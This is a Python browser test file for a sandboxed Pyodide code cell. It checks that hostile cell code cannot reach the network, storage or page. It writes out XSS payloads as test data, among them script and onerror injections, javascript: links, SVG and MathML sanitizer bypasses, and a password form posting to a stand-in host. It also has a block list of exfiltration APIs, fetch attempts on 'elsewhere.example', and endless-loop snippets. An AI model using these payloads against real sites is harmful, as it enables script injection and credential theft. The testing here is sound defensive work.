"""What a hostile cell (someone else's link, say) tries, and why it gets nowhere.

The page's policy binds the worker to the site's own origin; the worker gives up storage and network before the reader's
code runs; what a cell shows is cleaned; what it says to the page is read as data.
"""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.live_cells import PATIENCE_MS, LiveCell, open_chapter

ELSEWHERE = "https://elsewhere.example/"


@pytest.fixture
def cell(page: Page, site_url: str) -> LiveCell:
    return open_chapter(page, site_url)


# Everything that could carry data out of the page or bring code in, or reach what the reader has stored.
OUT_OF_REACH = (
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "WebTransport",
    "importScripts",
    "Worker",
    "SharedWorker",
    "BroadcastChannel",
    "indexedDB",
    "caches",
    "localStorage",
    "sessionStorage",
    "cookieStore",
    "document",
    "webkitRequestFileSystem",
    "close",
)


REACHED = f"""
import js
from pyodide.ffi import JsNull
def there(holder, name):
    try:
        return not isinstance(getattr(holder, name, None), JsNull | None)
    except Exception:
        return True
reached = [name for name in {OUT_OF_REACH} if there(js, name)]
holder = js.Object.getPrototypeOf(js.self)
while there({{"holder": holder}}, "get") and not isinstance(holder, JsNull):
    reached += [name for name in {OUT_OF_REACH} if js.Object.hasOwn(holder, name)]
    holder = js.Object.getPrototypeOf(holder)
print(reached, [name for name in ("storage", "locks", "serviceWorker") if there(js.navigator, name)])
"""


def test_the_worker_has_neither_network_nor_storage_not_even_by_way_of_a_prototype(cell: LiveCell):
    assert cell.result(REACHED) == "[] []"


JAVASCRIPT_FROM_TEXT = """
import js
from pyodide.code import run_js
refused = []
for attempt in (lambda: js.eval("1"), lambda: js.Function.new("return 1")(), lambda: run_js("1"),
                lambda: js.setTimeout("1")):
    try:
        attempt()
    except Exception as error:
        refused.append("unsafe-eval" in str(error) or str(error))
print(refused)
"""


def test_javascript_cannot_be_made_from_text(cell: LiveCell, expected_console: list[str]):
    expected_console.append("Content Security Policy")
    assert cell.result(JAVASCRIPT_FROM_TEXT) == "[True, True, True]"


OTHER_HOSTS = f"""
import socket, pyodide_js
from urllib.request import urlopen
from pyodide.ffi import run_sync
from pyodide.http import open_url, pyfetch
address, refused = {ELSEWHERE!r}, []
for attempt in (lambda: open_url(address), lambda: urlopen(address), lambda: run_sync(pyfetch(address)),
                lambda: run_sync(pyodide_js.loadPackage(address + "evil.whl")),
                lambda: socket.create_connection(("elsewhere.example", 443), 1)):
    try:
        attempt()
    except Exception as error:
        refused.append(True)
print(refused)
"""


def test_python_reaches_no_other_host(cell: LiveCell):
    # That nothing left the page is what the fixture `page` checks.
    assert cell.result(OTHER_HOSTS) == "[True, True, True, True, True]"


HOSTILE_HTML = f"""
<script>document.title = "taken"</script>
<img src="{ELSEWHERE}a.png" onerror="document.title = 'taken'">
<a id="x" href="javascript:document.title='taken'">here</a> <a href="{ELSEWHERE}">there</a>
<style>@import "{ELSEWHERE}a.css"; body {{ display: none }}</style>
<p style="position: fixed; inset: 0" class="fixed-top ws-note" onclick="document.title = 'taken'"
   id="ws-page" name="t">text</p>
<form action="{ELSEWHERE}"><input name="password"><button>Send</button></form>
<iframe src="{ELSEWHERE}"></iframe><object data="{ELSEWHERE}"></object><base href="{ELSEWHERE}">
<link rel="stylesheet" href="{ELSEWHERE}a.css"><meta http-equiv="refresh" content="0; url={ELSEWHERE}">
<svg><script>document.title = "taken"</script><image href="{ELSEWHERE}a.svg"/><use href="{ELSEWHERE}a.svg#b"/>
<a href="{ELSEWHERE}"><text>t</text></a><animate attributeName="href" to="javascript:1"/>
<foreignObject><img src="{ELSEWHERE}b.png" onload="1"></foreignObject>
<defs><pattern id="hatch"></pattern></defs><rect id="r" fill="url(#hatch)" onload="document.title = 'taken'"/>
<circle fill="url({ELSEWHERE}c.svg#d)" stroke="u\\72l({ELSEWHERE}e.svg#f)"/></svg>
<math><mtext><table><mglyph><style><img src onerror="document.title = 'taken'"></style></mglyph></table></mtext></math>
<button data-bs-toggle="modal" popovertarget="x">press</button>
"""


def test_html_that_a_cell_shows_is_harmless(cell: LiveCell, page: Page, expected_console: list[str]):
    expected_console.append("Content Security Policy")  # said while the text is parsed, before it is cleaned
    title = page.title()
    cell.write(f"class Hostile:\n    def _repr_html_(self): return {HOSTILE_HTML!r}\nHostile()")
    cell.run()
    tags = cell.output.evaluate("box => [...box.querySelectorAll('*')].map(one => one.localName)")
    attributes = sorted(
        cell.output.evaluate("""box => [...box.querySelectorAll('*')]
        .flatMap(one => [...one.attributes].map(({name, value}) => `${name}=${value}`))""")
    )
    assert not set(tags) & {
        "script",
        "img",
        "a",
        "style",
        "form",
        "input",
        "iframe",
        "object",
        "base",
        "link",
        "meta",
        "image",
        "foreignObject",
        "animate",
        "button",
    }
    prefix = re.search(r"ws-out-\d+-", " ".join(attributes))[0]
    assert [one for one in attributes if one not in ("class=output text_html", "class=ws-note")] == [
        f"fill=url(#{prefix}hatch)",
        f"id={prefix}hatch",
        f"id={prefix}r",
        f"id={prefix}ws-page",
    ]
    assert page.title() == title


def test_messages_that_a_cell_forges_are_data(cell: LiveCell, page: Page):
    title = page.title()
    code = """
import js
from pyodide.ffi import to_js
def say(message): js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
hostile = '{"event": "html", "html": "<img src=x onerror=document.title=1>"}'
for message in (hostile, {"run": 1, "event": hostile}, {"run": "x", "event": "{}"}, {"run": 1, "event": "{"}, None, 7):
    say(message)
print("said")
"""
    assert cell.result(code) == "said"
    assert page.title() == title


def test_a_port_that_a_cell_has_stolen_gains_it_nothing(cell: LiveCell, page: Page):
    code = """
import js
from pyodide.ffi import create_proxy
stolen = []
js.MessagePort.prototype.postMessage = create_proxy(lambda *given: stolen.append(given))
print("told")
print(len(stolen))
"""
    assert cell.result(code) == "told\n0"


NEVER_ENDING = (
    "while True:\n    try:\n        while True: pass\n    except: pass",
    "while True:\n    try:\n        while True: print('again')\n    except: pass",
    "import js\nshared = js.SharedArrayBuffer.new(4)\njs.Atomics.wait(js.Int32Array.new(shared), 0, 0)",
)


def test_stop_ends_what_catches_everything_or_waits_outside_python(cell: LiveCell):
    for code in NEVER_ENDING:
        cell.write(code)
        cell.button("Run").click()
        expect(cell.status).to_have_text("Running…", timeout=PATIENCE_MS)
        cell.button("Stop").click()
        assert cell.ended() == "Stopped. Python was started anew, so the cells above run again when they are needed."
    assert cell.result("6 * 7") == "42"


def test_endless_printing_leaves_the_page_usable(cell: LiveCell):
    cell.write("while True: print('again')")
    cell.button("Run").click()
    sentence = "The output ends here: a cell shows up to 2,000 lines or 100,000 characters."
    expect(cell.output).to_contain_text(sentence, timeout=PATIENCE_MS)
    cell.button("Stop").click()
    assert cell.ended() == "Stopped."
    assert cell.output.inner_text().count("again") == 2000


def test_too_much_memory_and_endless_recursion_are_errors_like_any_other(cell: LiveCell):
    cell.write("wanted = bytearray(1 << 40)")
    cell.run()
    expect(cell.output).to_contain_text(re.compile("MemoryError|OverflowError"))
    cell.write("def again(n):\n    return again(n + 1)\nagain(0)")
    cell.run()
    expect(cell.output).to_contain_text("RecursionError: maximum recursion depth exceeded")
    assert cell.result("6 * 7") == "42"
